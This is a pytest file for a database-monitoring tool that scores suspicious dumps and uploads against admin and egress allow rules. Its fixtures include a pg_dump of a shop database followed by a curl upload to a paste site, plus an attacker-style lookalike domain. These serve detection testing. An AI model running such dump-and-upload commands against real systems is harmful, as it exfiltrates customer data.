"""Issue 13, items 4 (an admin's daytime work) and 8 (egress allow rules for known backup targets).

The DBA was recorded for real on this machine (tests/recordings/issue13-dba/record_issue13_dba.sh, as root):
dbw_alice, a member of the group dba, runs

    psql -h 127.0.0.1 -U app -d shop -c "\\copy customers to '/home/dbw_alice/exports/customers.csv' csv header"

through Debian's Perl wrapper (two execs of one pid) against a real PostgreSQL, under kernel audit and
inotifywait. tests/audit_replay.py converts the records to osquery 5.23.1's rows and runs the shipped
packs/dbwatch.conf (rendered from defaults, not from the site config) over them.
"""

from __future__ import annotations

from typing import Any

import audit_replay as A
from correlate_scenarios.helpers import correlate, final_by_chain, reason_codes
from correlate_scenarios.make_scenarios import D, H, MON, Log

SITE = """\
admins:
  groups: [dba]
service_accounts: [backup]
internal_networks: [10.0.0.0/8]
"""
USERS = {0: "root", 1001: "dbw_alice", 1002: "dbw_mallory"}


def run(tmp_path: Any, lines: list[str], config: str) -> list[dict[str, Any]]:
    log = tmp_path / "osqueryd.results.log"
    log.write_text("\n".join(lines) + "\n")
    cfg = tmp_path / "config.yml"
    cfg.write_text(config)
    return correlate(["--config", str(cfg), str(log)], str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))


def dba_lines(groups: dict[str, list[str]]) -> list[str]:
    rec = A.load("issue13-dba")
    files = A.file_events(f"{rec.path}/inotify.log", f"{rec.path}/stat.log")
    shell = {**rec.shell, "uid": 1001, "parent": 0}
    return A.replay("rec-dba", rec.audit, files, USERS, [shell], False, groups)


# -- item 4: the shipped pack works with a site config it was not rendered from --------------------


def test_the_shipped_pack_reports_the_dbas_membership_and_her_work_is_expected(tmp_path) -> None:
    """Before: admin_accounts ended in `IN ()`, no membership arrived, and the \\copy was medium."""
    rec = A.load("issue13-dba")
    recorded = next(line.split("|")[3] for line in open(f"{rec.path}/marks.log") if "|group|dba|" in line)
    lines = dba_lines({"dba": recorded.strip().split(",")})
    assert any('"pack_dbwatch_admin_accounts"' in x and '"dba"' in x and "dbw_alice" in x for x in lines)
    assert run(tmp_path, lines, SITE) == []


def test_without_the_membership_the_same_work_is_a_finding(tmp_path) -> None:
    """The control: alice outside dba (the recording's exec, socket and file rows unchanged) is medium."""
    (f,) = final_by_chain(run(tmp_path, dba_lines({}), SITE)).values()
    assert f["severity_id"] == 3, f["unmapped"]["reasons"]
    assert f["actor"]["user"]["name"] == "dbw_alice"


def _three_hours(log: Log, host: str, t: int) -> None:
    for i in range(4):
        log.db_exec(host, t + i * H, "eve", 1001, "psql -d app", "/usr/bin/psql", 4000 + i, "/usr/bin/bash", "-bash")


def test_a_host_without_admin_rows_is_warned_once(tmp_path, capsys) -> None:
    log = Log()
    t = MON + 2 * D + 9 * H
    _three_hours(log, "db-40", t)
    _three_hours(log, "db-41", t)
    log.admins("db-41", t - 60, [("alice", "dba", 1005)])
    _three_hours(log, "db-42", t)
    log.db_exec("db-43", t, "eve", 1001, "psql -d app", "/usr/bin/psql", 4100, "/usr/bin/bash", "-bash")  # too short yet
    run(tmp_path, log.lines, SITE)
    err = capsys.readouterr().err
    warned = [line for line in err.splitlines() if "no admin_accounts row arrived" in line]
    assert len(warned) == 2 and "'db-40'" in warned[0] + warned[1] and "'db-42'" in warned[0] + warned[1]
    assert "2 hosts sent no admin_accounts rows (admins.groups is set)" in err
    # No admins.groups in the config: nothing to warn about.
    (tmp_path / "b").mkdir()
    run(tmp_path / "b", log.lines, "service_accounts: [backup]\n")
    assert "no admin_accounts row" not in capsys.readouterr().err


# -- item 8: egress allow rules ---------------------------------------------------------------------


def renamed_lines() -> list[str]:
    rec = A.load("issue13")
    events = [e for e in rec.audit if e.time <= rec.marks["renamed-end"]]
    files = [f for f in A.file_events(f"{rec.path}/inotify.log", f"{rec.path}/stat.log")
             if f["time"] <= rec.marks["renamed-end"]]
    shell = {**rec.shell, "uid": 1002, "parent": 0}
    return A.replay("rec-renamed", events, files, USERS, [shell], False)


def test_an_upload_to_an_allowed_backup_network_does_not_escalate(tmp_path) -> None:
    """The recorded renamed-pg_dump chain, its upload to 198.51.100.2 allowed for this user: medium, and said."""
    config = SITE + "egress_allow:\n  - destination: 198.51.100.0/24\n    user: dbw_mallory\n"
    (f,) = final_by_chain(run(tmp_path, renamed_lines(), config)).values()
    assert f["severity_id"] == 3, f["unmapped"]["reasons"]
    assert "egress-allowed" in reason_codes(f) and "egress-after-dump" not in reason_codes(f)
    assert f["unmapped"]["stages"] == ["access", "dump"]
    allowed = [e["data"]["egress_allowed"] for e in f["evidences"] if "dst_endpoint" in e]
    assert allowed and all(a.startswith("egress_allow rule at line 6") for a in allowed)


def test_an_allow_rule_scoped_to_another_user_or_host_does_not_apply(tmp_path) -> None:
    for scope in ("    user: backup\n", "    host: 'backup-*'\n"):
        config = SITE + "egress_allow:\n  - destination: 198.51.100.0/24\n" + scope
        (tmp_path / scope[4:8]).mkdir()
        (f,) = final_by_chain(run(tmp_path / scope[4:8], renamed_lines(), config)).values()
        assert f["severity_id"] == 4, (scope, f["unmapped"]["reasons"])
        assert "egress-allowed" not in reason_codes(f)


def test_a_host_glob_allows_uploads_to_cloud_storage_and_their_connects(tmp_path) -> None:
    """rclone to a bucket host: the upload (a name) and its connect (an address, same pid) are allowed; a
    second upload elsewhere still escalates."""
    log = Log()
    t = MON + 3 * D + 2 * H
    for host, other in (("db-50", False), ("db-51", True)):
        log.db_exec(host, t, "eve", 1001, "pg_dump -f /home/eve/shop.sql shop", "/usr/bin/pg_dump", 5000,
                    "/usr/bin/bash", "-bash")
        log.dump_file(host, t + 2, "/home/eve/shop.sql", "eve", 1001)
        # db_egress lines come before transfer_exec's in a minute's results: the connect arrives first.
        log.egress(host, t + 30, 5010, "/usr/bin/curl", "52.216.1.10", 443, "eve", 1001)
        log.transfer(host, t + 30, "eve", 1001, "curl -T /home/eve/shop.sql https://backups.s3.amazonaws.com/shop.sql",
                     "/usr/bin/curl", 5010)
        if other:
            log.transfer(host, t + 60, "eve", 1001, "curl -T /home/eve/shop.sql https://paste.example.org/u",
                         "/usr/bin/curl", 5020)
    config = SITE + "egress_allow:\n  - destination: '*.s3.amazonaws.com'\n    tool: curl\n"
    by_host = {f["device"]["hostname"]: f for f in final_by_chain(run(tmp_path, log.lines, config)).values()}
    assert by_host["db-50"]["severity_id"] == 3, by_host["db-50"]["unmapped"]["reasons"]
    assert "egress-allowed" in reason_codes(by_host["db-50"])
    assert all("egress_allowed" in e["data"] for e in by_host["db-50"]["evidences"] if "dst_endpoint" in e)
    assert by_host["db-51"]["severity_id"] == 4, by_host["db-51"]["unmapped"]["reasons"]


def test_egress_allow_entries_are_checked_strictly_with_file_and_line() -> None:
    import pytest

    from osq_dbwatch.config import ConfigError, parse_config
    from osq_dbwatch.policy import matching_egress_allow

    cases = {
        "egress_allow:\n  - destination: '*'\n": "line 2: egress_allow: destination '*' would allow every host",
        "egress_allow:\n  - destination: 0.0.0.0/0\n": "line 2: egress_allow: destination '0.0.0.0/0' would allow every address",
        "egress_allow:\n  - user: x\n": "line 2: egress_allow[0] needs 'destination'",
        "egress_allow:\n  - destination: 'a b'\n": "line 2: egress_allow: destination 'a b' is not a network",
        "egress_allow:\n  - destination: 300.1.2.3\n": "line 2: egress_allow: destination '300.1.2.3' is not a network",
        "egress_allow:\n  - destination: x.example.com\n    port: 443\n": "line 3: egress_allow: a port needs a network",
        "egress_allow:\n  - destination: 10.1.0.0/16\n    port: 0\n": "line 3: egress_allow[0].port must be a port number",
        "egress_allow:\n  - destination: 10.1.0.0/16\n    bucket: x\n": "line 3: unknown key 'bucket' in egress_allow[0]",
    }
    for text, message in cases.items():
        with pytest.raises(ConfigError) as caught:
            parse_config(text, "site.yml")
        assert str(caught.value).startswith("site.yml: " + message), str(caught.value)
    config = parse_config("egress_allow:\n  - destination: '*.S3.amazonaws.com'\n  - destination: 2001:db8::/32\n"
                          "    port: 443\n")
    assert matching_egress_allow(config, "Backups.s3.amazonaws.com", None, "eve", "h", "curl") is not None
    assert matching_egress_allow(config, "s3.amazonaws.com.evil.net", None, "eve", "h", "curl") is None
    assert matching_egress_allow(config, "2001:db8::5", 443, "eve", "h", "curl") is not None
    assert matching_egress_allow(config, "2001:db8::5", 80, "eve", "h", "curl") is None
    assert matching_egress_allow(config, "203.0.113.5", None, "eve", "h", "curl") is None
